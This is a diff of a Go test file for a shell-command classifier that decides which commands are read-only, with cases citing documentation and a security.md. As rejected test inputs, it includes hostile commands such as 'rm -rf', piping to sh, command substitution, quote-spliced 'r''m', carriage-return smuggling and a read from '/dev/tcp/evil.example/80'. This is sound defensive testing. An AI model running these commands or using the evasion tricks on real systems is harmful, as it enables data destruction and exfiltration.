@@ -1,13 +1,14 @@
-package bash
+package shell
 
 import (
 	"strings"
 	"testing"
-
-	"mvdan.cc/sh/v3/syntax"
 )
 
-func TestClassify(t *testing.T) {
+// The read-only table and its cases come from the Bash tool's classifier
+// (internal/tools/bash), which now uses this package. Cases cite the
+// documentation or the security.md item they come from.
+func TestReadOnly(t *testing.T) {
 	const (
 		none = iota
 		S    = 1 << iota // search
@@ -19,7 +20,7 @@ func TestClassify(t *testing.T) {
 		readOnly bool
 		kinds    int
 	}{
-		// read-only
+		// https://code.claude.com/docs/en/permissions#read-only-commands
 		{"ls", true, L},
 		{"ls -la src/", true, L},
 		{"pwd", true, L},
@@ -27,10 +28,6 @@ func TestClassify(t *testing.T) {
 		{"tree -L 2 -I node_modules", true, L},
 		{"cat x", true, R},
 		{"cat x\n", true, R},
-		{`c''at x`, true, R},
-		{`"cat" x`, true, R},
-		{`\cat x`, true, R},
-		{`c'a't x`, true, R},
 		{"head -n 5 a.txt | tail -n 2", true, R},
 		{"wc -l a b c", true, R},
 		{"jq .name package.json", true, R},
@@ -42,9 +39,6 @@ func TestClassify(t *testing.T) {
 		{"diff -u a b", true, R},
 		{"stat -c %s x", true, R},
 		{"file x", true, R},
-		{"cat $HOME/x ${HOME}/y", true, R},
-		{`cat "$f"`, true, R},
-		{"cat *.go", true, R},
 		{"grep -rn foo .", true, S},
 		{"grep -r foo . | head -20", true, S | R},
 		{"find . -name '*.go'", true, S},
@@ -55,10 +49,34 @@ func TestClassify(t *testing.T) {
 		{"ag foo", true, S},
 		{"ack foo", true, S},
 		{"which go; whereis ls", true, S},
+		{"echo hi", true, none},
+		{"echo hi | cat", true, R},
+		{"true && false", true, none},
+		{"ls # comment", true, L},
+		// security.md R7: quote splicing runs the same program
+		{`c''at x`, true, R},
+		{`"cat" x`, true, R},
+		{`\cat x`, true, R},
+		{`c'a't x`, true, R},
+		// https://code.claude.com/docs/en/permissions#read-only-commands:
+		// unquoted globs are fine for commands whose every flag is read-only
+		{"cat $HOME/x ${HOME}/y", true, R},
+		{`cat "$f"`, true, R},
+		{"cat *.go", true, R},
+		{"ls *.ts", true, L},
+		// https://code.claude.com/docs/en/permissions#compound-commands
 		{"ls && cat x", true, L | R},
 		{"ls || pwd", true, L},
 		{"ls\ncat x", true, L | R},
 		{"ls; cat x", true, L | R},
+		{"(ls; pwd)", true, L},
+		{"{ ls; cat x; }", true, L | R},
+		{"if grep -q x f; then cat f; else ls; fi", true, S | R | L},
+		{"while false; do ls; done", true, L},
+		{"case x in a) ls ;; *) cat y ;; esac", true, L | R},
+		{"! grep -q x f", true, S},
+		{"ls &", true, L},
+		// https://code.claude.com/docs/en/permissions#redirections
 		{"cat x 2>/dev/null", true, R},
 		{"cat x >/dev/null 2>&1", true, R},
 		{"cat x &>/dev/null", true, R},
@@ -68,19 +86,8 @@ func TestClassify(t *testing.T) {
 		{"cat < x", true, R},
 		{"cat <<'EOF'\nhello $(rm x)\nEOF", true, R},
 		{"cat <<< hello", true, R},
-		{"(ls; pwd)", true, L},
-		{"{ ls; cat x; }", true, L | R},
-		{"if grep -q x f; then cat f; else ls; fi", true, S | R | L},
-		{"while false; do ls; done", true, L},
-		{"case x in a) ls ;; *) cat y ;; esac", true, L | R},
-		{"! grep -q x f", true, S},
-		{"ls &", true, L},
-		{"echo hi", true, none},
-		{"echo hi | cat", true, R},
-		{"true && false", true, none},
-		{"ls # comment", true, L},
 
-		// compound commands with anything else
+		// security.md §1 #3: compound commands with anything else
 		{"cat x; rm -rf y", false, none},
 		{"ls && curl http://x", false, none},
 		{"echo x | sh", false, none},
@@ -92,7 +99,7 @@ func TestClassify(t *testing.T) {
 		{"while ls; do rm x; done", false, none},
 		{"case x in *) rm y ;; esac", false, none},
 
-		// substitutions
+		// security.md R3: substitutions and expansions that run code
 		{"cat $(rm x)", false, none},
 		{"ls `rm x`", false, none},
 		{`cat "$(rm x)"`, false, none},
@@ -108,7 +115,7 @@ func TestClassify(t *testing.T) {
 		{"${CMD} x", false, none},
 		{`"$(echo cat)" x`, false, none},
 
-		// redirections
+		// security.md R4, §1 #5: redirections that write
 		{"cat x > y", false, none},
 		{"cat x >> y", false, none},
 		{"cat x >| y", false, none},
@@ -122,14 +129,17 @@ func TestClassify(t *testing.T) {
 		{"ls {fd}>/dev/null", false, none},
 		{"{ cat x; } > y", false, none},
 		{"(cat x) > y", false, none},
+		{"cat x >&$fd", false, none},
+		{"cat < /dev/tcp/evil.example/80", false, none},
 
-		// assignments, definitions, builtins that run code
+		// security.md R2, R5: assignments, definitions, builtins that run code
 		{"FOO=1 ls", false, none},
 		{"PATH=/tmp ls", false, none},
 		{"FOO=1", false, none},
 		{"f() { ls; }", false, none},
 		{"function f { ls; }; f", false, none},
 		{"for PATH in /tmp; do ls; done", false, none},
+		{"for f in a; do ls; done", false, none},
 		{"for ((i=0; i<3; i++)); do ls; done", false, none},
 		{"export A=1", false, none},
 		{"declare -a x", false, none},
@@ -140,20 +150,22 @@ func TestClassify(t *testing.T) {
 		{"eval ls", false, none},
 		{"source x", false, none},
 		{". x", false, none},
-		{"exec ls", false, none},
-		{"command ls", false, none},
-		{"time ls", false, none},
 		{"coproc ls", false, none},
 		{"cd /tmp && ls", false, none},
 		{"printf -v x hi", false, none},
+		// A wrapped command is not read-only (the Bash tool's choice).
+		{"exec ls", false, none},
+		{"command ls", false, none},
+		{"time ls", false, none},
+		{"timeout 5 cat x", false, none},
+		{"sh -c 'ls'", false, none},
 
-		// command names
+		// security.md §2 (openai/codex#37078), R7: command names
 		{`r''m x`, false, none},
 		{"./cat x", false, none},
 		{"/bin/cat x", false, none},
 		{"/tmp/x/cat x", false, none},
 		{"~/cat x", false, none},
-		{`$'\x63'at x`, false, none},
 		{`$"cat" x`, false, none},
 		{"{cat,x}", false, none},
 		{"ca? x", false, none},
@@ -161,9 +173,10 @@ func TestClassify(t *testing.T) {
 		{"awk '{print}' x", false, none},
 		{"sed -n 1p x", false, none},
 		{"less x", false, none},
+		// security.md §2: git is not read-only (repository config runs programs)
 		{"git status", false, none},
 
-		// characters
+		// security.md R10, §1 #6: characters
 		{"cat x\r", false, none},
 		{"TZ=UTC\recho curl x", false, none},
 		{"ls\r\nrm x", false, none},
@@ -172,16 +185,17 @@ func TestClassify(t *testing.T) {
 		{"ls \u200b", false, none},
 		{"ls \x1b[2J", false, none},
 		{"ls \xff", false, none},
-		{"ls " + strings.Repeat("a", maxClassifyLen), false, none},
+		// https://code.claude.com/docs/en/permissions#read-only-commands: over 10,000 characters
+		{"ls " + strings.Repeat("a", MaxCommandLen), false, none},
 
-		// parse failures and empty programs
+		// security.md R1: parse failures and empty programs
 		{"cat 'x", false, none},
 		{"ls )", false, none},
 		{"if ls", false, none},
 		{"", false, none},
 		{"# only a comment", false, none},
 
-		// dual-use flags
+		// security.md §1 #11, §2, R9: dual-use flags
 		{"find . -delete", false, none},
 		{`find . -exec rm {} \;`, false, none},
 		{"find . -execdir rm {} +", false, none},
@@ -226,65 +240,43 @@ func TestClassify(t *testing.T) {
 		{"ack --output='$x' foo", false, none},
 	}
 	for _, c := range cases {
-		got := classify(c.cmd)
+		a := Analyze(c.cmd)
+		s, r, l := a.Kinds()
 		kinds := 0
-		if got.search {
+		if s {
 			kinds |= S
 		}
-		if got.read {
+		if r {
 			kinds |= R
 		}
-		if got.list {
+		if l {
 			kinds |= L
 		}
-		if got.readOnly != c.readOnly || kinds != c.kinds {
-			t.Errorf("classify(%q) = readOnly %v kinds %03b; want %v %03b", c.cmd, got.readOnly, kinds, c.readOnly, c.kinds)
+		if a.ReadOnly() != c.readOnly || kinds != c.kinds {
+			t.Errorf("Analyze(%q): ReadOnly %v kinds %03b; want %v %03b (unprovable %q)", c.cmd, a.ReadOnly(), kinds, c.readOnly, c.kinds, a.Unprovable)
 		}
 	}
 }
 
-func TestStaticWordUnescapes(t *testing.T) {
-	cases := map[string]string{
-		`cat`:         "cat",
-		`c''at`:       "cat",
-		`"c"a't'`:     "cat",
-		`\c\a\t`:      "cat",
-		`"a\"b\\c\x"`: `a"b\c\x`,
-		`'a\b'`:       `a\b`,
-		`"-del"ete`:   "-delete",
-		`[`:           "[",
-		`'[a]'`:       "[a]",
-		`\[a]`:        "[a]",
+func TestOptRuleAbbreviations(t *testing.T) {
+	// security.md R9: GNU getopt_long takes unambiguous prefixes
+	cases := []struct {
+		rule optRule
+		args []string
+		ok   bool
+	}{
+		{sortRule, []string{"--o=x"}, false},
+		{sortRule, []string{"--comp=sh"}, false},
+		{sortRule, []string{"-n", "--", "-o"}, false}, // refused even after --: the safe side
+		{sortRule, []string{"-rn", "--key=2"}, true},
+		{rgRule, []string{"--pr", "x"}, false},
+		{rgRule, []string{"--hostname"}, false},
+		{rgRule, []string{"-i", "--pre-glob=*.gz"}, true},
+		{ackRule, []string{"-pag=sh"}, false},
 	}
-	for in, want := range cases {
-		f, err := parseForTest(in)
-		if err != nil {
-			t.Fatalf("parse %q: %v", in, err)
-		}
-		got, ok := staticWord(f)
-		if !ok || got != want {
-			t.Errorf("staticWord(%s) = %q, %v; want %q", in, got, ok, want)
+	for _, c := range cases {
+		if got := c.rule.allows(c.args); got != c.ok {
+			t.Errorf("%+v.allows(%q) = %v, want %v", c.rule, c.args, got, c.ok)
 		}
 	}
-}
-
-func TestStaticWordRefusesExpansions(t *testing.T) {
-	for _, in := range []string{`a[b]`, `[a]`, `x*`, `?`, `{a,b}`, `a}`, `~/x`, `$x`, `"$x"`, `$'x'`, `$"x"`, "`x`", `$(x)`, `$((1))`} {
-		f, err := parseForTest(in)
-		if err != nil {
-			t.Fatalf("parse %q: %v", in, err)
-		}
-		if got, ok := staticWord(f); ok {
-			t.Errorf("staticWord(%s) = %q, want not static", in, got)
-		}
-	}
-}
-
-// parseForTest parses s as the argument of a command and returns it.
-func parseForTest(s string) (*syntax.Word, error) {
-	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader("x "+s), "")
-	if err != nil {
-		return nil, err
-	}
-	return f.Stmts[0].Cmd.(*syntax.CallExpr).Args[1], nil
 }
